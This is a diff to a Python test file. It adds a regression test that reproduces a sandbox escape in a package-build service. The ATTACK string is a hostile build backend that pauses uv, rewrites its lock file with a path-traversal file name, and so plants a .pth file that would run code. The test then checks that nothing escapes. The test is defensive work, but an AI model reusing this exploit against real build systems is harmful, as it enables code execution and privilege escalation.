@@ -90,6 +90,49 @@ version = "1.0"
 """
 
 
+# What an outside review got root with. It runs while uv resolves, waits for the lock, stops uv, and gives
+# the lock another file of its project under a name that leads out of the worker's folder.
+ATTACK = """
+import hashlib, os, re, signal, time, urllib.request
+
+LOCK = "/build/out/pylock.toml"
+
+def other_file():
+    page = urllib.request.urlopen("http://127.0.0.1:3141/0/curious-lib/").read().decode()
+    url = re.search(r'http://[^"]+curious_lib-0.9.tar.gz', page).group(0)
+    return url, hashlib.sha256(urllib.request.urlopen(url).read()).hexdigest()
+
+def meddle(uv, url, sha256):
+    for _ in range(3_000_000):
+        try:
+            text = open(LOCK).read()
+        except OSError:
+            continue
+        if "curious_lib-1.0.tar.gz" in text:
+            os.kill(uv, signal.SIGSTOP)
+            of = (url, sha256)
+            sdist = 'sdist = { name = "ESCAPE", url = "%s", hashes = { sha256 = "%s" } }' % of
+            open(LOCK, "w").write(re.sub(r"(?m)^sdist = .*$", sdist, text))
+            os.kill(uv, signal.SIGCONT)
+            return
+
+def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
+    uv, found = os.getppid(), other_file()
+    if os.fork() == 0:
+        os.setsid()
+        for descriptor in (0, 1, 2):
+            os.close(descriptor)
+        meddle(uv, *found)
+        os._exit(0)
+    info = os.path.join(metadata_directory, "curious_lib-1.0.dist-info")
+    os.mkdir(info)
+    with open(os.path.join(info, "METADATA"), "w") as file:
+        file.write("Metadata-Version: 2.1\\nName: curious-lib\\nVersion: 1.0\\n")
+    return "curious_lib-1.0.dist-info"
+"""
+DYNAMIC = PYPROJECT + 'dynamic = ["dependencies"]\n'
+
+
 def make_sdist(folder: Path, **files: str) -> Path:
     path = folder / "curious_lib-1.0.tar.gz"
     info = "Metadata-Version: 2.1\nName: curious-lib\nVersion: 1.0\n"
@@ -188,6 +231,31 @@ def test_a_build_backend_reaches_the_index_and_nothing_else(
     )
     assert f"http://{index}/files/curious_lib-1.0.tar.gz" in build.lock
     assert "s3cr" not in build.lock + log_of(image)
+
+
+@with_marks
+def test_a_lock_rewritten_by_build_code_writes_nothing_outside(
+    cast: Cast, debian: BaseImage, registry: LocalAWS, settings: Any, tmp_path: Path
+) -> None:
+    settings.CACHE_DIR = tmp_path / "cache"
+    escaped = tmp_path / "site-packages" / "x.pth"
+    backend = BACKEND.replace("WORKER_PORT", "1") + ATTACK.replace(
+        "ESCAPE", f"{'../' * 12}{str(escaped).lstrip('/')}"
+    )
+    source = make_sdist(tmp_path, **{"backend.py": backend, "pyproject.toml": DYNAMIC})
+    payload = tmp_path / "curious_lib-0.9.tar.gz"
+    payload.write_bytes(b"import os; os.system('id')\n")
+    with private_index(source, payload, make_wheel(tmp_path, "build_helper")) as address:
+        settings.PACKAGE_INDEX_URL = f"http://team:{SECRET}@{address}/simple"
+        image = build_now(registry, ask(cast, "rooted", "curious-lib", allow_source=True))
+    build = image.builds.get()
+    assert not list(tmp_path.rglob("x.p*"))
+    # Either the rewriting came too late, or the lock is refused: it never names what build code made up.
+    assert "x.pth" not in build.lock
+    assert (image.status, build.error_code) in (
+        (Status.READY, ""),
+        (Status.FAILED, "source_build_failed"),
+    )
 
 
 @with_marks
